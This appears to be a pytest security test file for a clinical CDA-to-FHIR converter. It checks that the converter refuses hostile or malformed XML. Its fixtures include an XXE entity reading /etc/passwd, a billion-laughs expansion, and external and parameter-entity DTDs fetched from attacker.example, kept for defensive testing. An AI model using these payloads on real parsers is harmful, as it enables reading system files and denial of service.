"""Hostile input: XXE, billion laughs, external DTDs, oversized and malformed documents."""

from __future__ import annotations

import tracemalloc

import pytest

from cda_transform import TransformError, to_fhir
from cda_transform.parse import MAX_BYTES
from tests.cda_transform import cda_builder as cb

ROOT = '<ClinicalDocument xmlns="urn:hl7-org:v3"><code code="60591-5"/>{body}</ClinicalDocument>'

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE ClinicalDocument [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<ClinicalDocument xmlns="urn:hl7-org:v3"><code code="60591-5"/><title>&xxe;</title></ClinicalDocument>"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<ClinicalDocument xmlns="urn:hl7-org:v3"><title>&lol9;</title></ClinicalDocument>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE ClinicalDocument SYSTEM "http://attacker.example/cda.dtd">
<ClinicalDocument xmlns="urn:hl7-org:v3"><code code="60591-5"/></ClinicalDocument>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE x [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>
<ClinicalDocument xmlns="urn:hl7-org:v3"/>"""


@pytest.mark.parametrize(
    "xml",
    [XXE, BILLION_LAUGHS, EXTERNAL_DTD, PARAMETER_ENTITY],
    ids=["xxe", "billion-laughs", "external-dtd", "parameter-entity"],
)
def test_dtd_and_entity_attacks_are_refused(xml: bytes) -> None:
    with pytest.raises(TransformError) as info:
        to_fhir(xml)
    assert info.value.code == "security"
    outcome = info.value.to_operation_outcome()
    assert outcome["issue"][0]["severity"] == "error"
    assert "passwd" not in outcome["issue"][0]["diagnostics"]


def test_doctype_hidden_after_a_long_prolog_is_still_refused() -> None:
    xml = b'<?xml version="1.0"?>\n<!--' + b"x" * 100_000 + b"-->\n" + XXE.split(b"\n", 1)[1]
    with pytest.raises(TransformError) as info:
        to_fhir(xml)
    assert info.value.code in ("security", "structure")


def test_utf16_doctype_is_refused() -> None:
    with pytest.raises(TransformError) as info:
        to_fhir(XXE.replace(b'<?xml version="1.0"?>', b"").decode().encode("utf-16"))
    assert info.value.code in ("security", "structure")


def test_fifty_megabyte_document_is_refused_without_exhausting_memory() -> None:
    filler = b"<paragraph>" + b"a" * 1000 + b"</paragraph>"
    big = cb.document(cb.section("10160-0", text="@@")).replace(b"@@", filler * 52_000)
    assert len(big) > 50 * 1024 * 1024 > MAX_BYTES
    tracemalloc.start()
    try:
        with pytest.raises(TransformError) as info:
            to_fhir(big)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert info.value.code == "too-costly"
    assert peak < 5 * 1024 * 1024, f"refusal allocated {peak} bytes"


@pytest.mark.parametrize(
    ("xml", "code"),
    [
        (b"", "structure"),
        (b"   \n", "structure"),
        (b"not xml at all", "structure"),
        (b"<ClinicalDocument xmlns='urn:hl7-org:v3'><unclosed></ClinicalDocument>", "structure"),
        (b"<html><body>hello</body></html>", "structure"),
        (b"<ClinicalDocument xmlns='urn:other'/>", "structure"),
        (ROOT.format(body="").encode(), "structure"),  # a PS code but no body
        (ROOT.replace("60591-5", "57833-6").format(body="").encode(), "not-supported"),
        (b"\xff\xfe\x00\x00garbage", "structure"),
    ],
)
def test_unusable_input_gives_a_clean_refusal(xml: bytes, code: str) -> None:
    with pytest.raises(TransformError) as info:
        to_fhir(xml)
    assert info.value.code == code
    assert info.value.to_operation_outcome()["issue"][0]["diagnostics"]


def test_documents_breaking_ehdsi_rules_still_convert_with_warnings() -> None:
    """No required sections, no author, invalid against both XSDs: Bundle plus warnings, not a refusal."""
    xml = ROOT.format(body="<component><structuredBody/></component>").encode()
    result = to_fhir(xml)
    assert result.bundle["type"] == "document"
    diagnostics = " ".join(i["diagnostics"] for i in result.outcome["issue"])
    assert "non conforme aux schémas" in diagnostics
    assert "Sections obligatoires eHDSI absentes : 48765-2, 10160-0, 11450-4, 47519-4, 46264-8" in diagnostics
    assert "sans auteur" in diagnostics


def test_document_with_too_many_entries_is_refused_quickly() -> None:
    from cda_transform.parse import MAX_ENTRIES

    entries = "<entry/>" * (MAX_ENTRIES + 1)
    with pytest.raises(TransformError) as info:
        to_fhir(cb.document(cb.section("48765-2", entries)))
    assert info.value.code == "too-costly"
